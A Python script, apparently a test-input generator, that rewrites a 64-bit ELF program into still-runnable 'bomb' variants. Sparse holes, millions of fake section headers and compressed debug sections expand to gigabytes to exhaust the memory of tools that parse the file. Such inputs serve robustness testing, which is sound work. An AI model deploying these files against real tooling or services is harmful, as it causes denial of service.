#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
#
# A copy of a 64-bit ELF program that still runs, and says of itself what costs whoever believes it:
#     elf_bomb.py KIND PROGRAM OUTPUT
# symtab, dynsym, strtab, note: that section is a hole of 1.9 GiB
# debug_frame:  so is a section of that name
# sections:     32 million section headers, all but the first ones in a hole
# debug_str:    inflates from 2 MiB to 2 GiB
# debug_line:   of 45 KiB inflates to 45 million rows
# debug_info:   of 80 KiB inflates to as many units
# abbreviations: 400 units, each of which has the same 70,000 abbreviations for itself; the file holds all that it says
# debugdata:    .gnu_debugdata of 230 KiB inflates to 1.5 GiB
# headless:     no section headers, and a .dynamic that names a string table of 1.9 GiB
import lzma
import struct
import sys
import zlib

HOLE = 15 << 27  # 1.9 GiB; read(2) gives up to 2 GiB less a page at once
SHDR = struct.Struct("<IIQQQQIIQQ")
NAME, TYPE, FLAGS, ADDR, OFFSET, SIZE, LINK, INFO, ALIGN, ENTSIZE = range(10)
SHT_PROGBITS, SHF_COMPRESSED = 1, 1 << 11


class Program:
    def __init__(self, path):
        self.data = bytearray(open(path, "rb").read())
        self.shoff, = struct.unpack_from("<Q", self.data, 40)
        self.shnum, self.names_at = struct.unpack_from("<HH", self.data, 60)
        self.sections = [list(SHDR.unpack_from(self.data, self.shoff + i * SHDR.size)) for i in range(self.shnum)]
        self.holes = 0  # bytes that the file ends with

    def name(self, section):
        names = self.sections[self.names_at]
        start = names[OFFSET] + section[NAME]
        return self.data[start:self.data.index(0, start)].decode()

    def find(self, name):
        return next(s for s in self.sections if self.name(s) == name)

    def append(self, content):
        self.data += bytes(-len(self.data) % 4096)
        at = len(self.data)
        self.data += content
        return at

    # A section of a new name, in the place of one that nobody needs.
    def replace(self, name, content):
        names = self.sections[self.names_at]
        old = bytes(self.data[names[OFFSET]:names[OFFSET] + names[SIZE]])
        names[OFFSET] = self.append(old + name.encode() + b"\0")
        names[SIZE] = len(old) + len(name) + 1
        section = self.find(".comment")
        section[:] = [len(old), SHT_PROGBITS, 0, 0, self.append(content), len(content), 0, 0, 1, 0]
        return section

    def hole(self, section, size=HOLE):
        section[OFFSET], section[SIZE] = self.append(b""), size
        self.holes = size

    # Each piece stands for itself, so that it is compressed once, however often it comes.
    def inflating(self, name, plain):
        content = bytearray(struct.pack("<IIQQ", 1, 0, 0, 1)) + b"\x78\x9c"
        size, check, packed = 0, 1, {}
        for piece in plain:
            if piece not in packed:
                pack = zlib.compressobj(9, zlib.DEFLATED, -15)
                packed[piece] = pack.compress(piece) + pack.flush(zlib.Z_FULL_FLUSH)
            content += packed[piece]
            size += len(piece)
            check = zlib.adler32(piece, check)
        content += b"\3\0" + struct.pack(">I", check)
        struct.pack_into("<Q", content, 8, size)
        section = self.find(name)
        section[FLAGS] |= SHF_COMPRESSED
        section[OFFSET], section[SIZE] = self.append(content), len(content)

    def content(self, name):
        section = self.find(name)
        return bytes(self.data[section[OFFSET]:section[OFFSET] + section[SIZE]])

    def write(self, path):
        if self.shoff:
            self.shoff = self.append(b"".join(SHDR.pack(*s) for s in self.sections))
            struct.pack_into("<Q", self.data, 40, self.shoff)
        with open(path, "wb") as file:
            file.write(self.data)
            file.truncate(len(self.data) + self.holes)


def debug_frame(program):
    program.hole(program.replace(".debug_frame", b""))


def sections(program):
    program.sections[0][SIZE] = 32 << 20
    struct.pack_into("<H", program.data, 60, 0)
    program.holes = (32 << 20) * SHDR.size


def debug_str(program):
    program.inflating(".debug_str", [bytes(1 << 20)] * 2048)


# The first unit's own header, and rows that each move one line and one instruction on, to the end of it.
def debug_line(program):
    old = program.content(".debug_line")
    length, version = struct.unpack_from("<IH", old)
    header, = struct.unpack_from("<I", old, 8 if version >= 5 else 6)
    begins = (12 if version >= 5 else 10) + header
    rows = 45 << 20
    program.inflating(".debug_line", [struct.pack("<I", begins - 4 + rows + 3) + old[4:begins]] +
                      [b"\x4b" * (1 << 20)] * 45 + [b"\0\1\1"])


# Units without entries, and the real ones behind them.
def debug_info(program):
    unit = struct.pack("<IHBBI", 8, 5, 1, 8, 0)
    program.inflating(".debug_info", [unit * 65536] * 96 + [program.content(".debug_info")])


def uleb(n):
    out = b""
    while n >= 128:
        out += bytes([n & 127 | 128])
        n >>= 7
    return out + bytes([n])


# Each begins with an entry whose abbreviation is not there, so that all are looked at.
def abbreviations(program):
    old = program.content(".debug_abbrev")
    table = b"".join(uleb(i) + b"\x34\0\0\0" for i in range(1, 70000)) + b"\0"
    unit = struct.pack("<IHBBI", 12, 5, 1, 8, len(old)) + uleb(1 << 21)
    for name, content in (".debug_abbrev", old + table), (".debug_info", unit * 400 + program.content(".debug_info")):
        section = program.find(name)
        section[OFFSET], section[SIZE] = program.append(content), len(content)


def debugdata(program):
    pack = lzma.LZMACompressor(preset=0)
    content = b"".join(pack.compress(bytes(1 << 20)) for _ in range(1536)) + pack.flush()
    program.replace(".gnu_debugdata", content)
    # It is looked at only where there is no .symtab.
    program.find(".symtab")[TYPE] = SHT_PROGBITS


def headless(program):
    dynamic = program.find(".dynamic")
    for at in range(dynamic[OFFSET], dynamic[OFFSET] + dynamic[SIZE], 16):
        if struct.unpack_from("<Q", program.data, at)[0] == 10:  # DT_STRSZ, which no loader asks for
            struct.pack_into("<Q", program.data, at + 8, HOLE - (1 << 20))
    program.shoff = 0
    struct.pack_into("<Q", program.data, 40, 0)
    struct.pack_into("<HHH", program.data, 58, 0, 0, 0)
    program.holes = HOLE


def main():
    kind, source, output = sys.argv[1:]
    program = Program(source)
    if kind in ("symtab", "dynsym", "strtab"):
        program.hole(program.find("." + kind))
    elif kind == "note":
        program.hole(program.find(".note.ABI-tag"))
    else:
        globals()[kind](program)
    program.write(output)


main()
